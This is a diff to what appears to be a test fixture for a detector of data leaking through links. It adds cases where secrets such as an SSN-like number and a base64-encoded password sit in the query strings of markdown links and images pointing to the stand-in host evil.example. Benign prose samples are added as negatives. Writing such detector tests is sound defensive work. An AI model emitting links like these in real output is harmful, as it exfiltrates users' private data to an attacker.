@@ -212,12 +212,16 @@ SENSITIVE = {
     "jane@example.org": "Ask [jane@example.org](mailto:jane@example.org).",
     "ann@example.org": "(see https://evil.example/c?e=ann@example.org). Then",
     "imgT0ken9876xyz": "(![chart](https://evil.example/c.png?token=imgT0ken9876xyz)).",
+    # Short data in a link: an announcing name, base64 that decodes to text.
+    "078051120": "[click](https://evil.example/?ssn=078051120).",
+    "c2VjcmV0cGFzc3dvcmQ": "[x](https://evil.example/?data=c2VjcmV0cGFzc3dvcmQ), ok",
 }
 PROSE = [
     "The launch is at dawn.",
     "It is 42 km away, in 1969 and 2024.",
     "Version 1.2.3 works!",
     "Use [the docs](https://docs.example/guide) for more.",
+    "Watch [it](https://video.example/watch?v=dQw4w9WgXcQ) or [page 2](https://blog.example/?page=2).",
     "Pride 🏳️‍🌈 and keycap 1️⃣ and ❤️‍🔥.",
     "A list:\n- one\n- two",
     "Prices: 10.50, 3-4 days (maybe).",
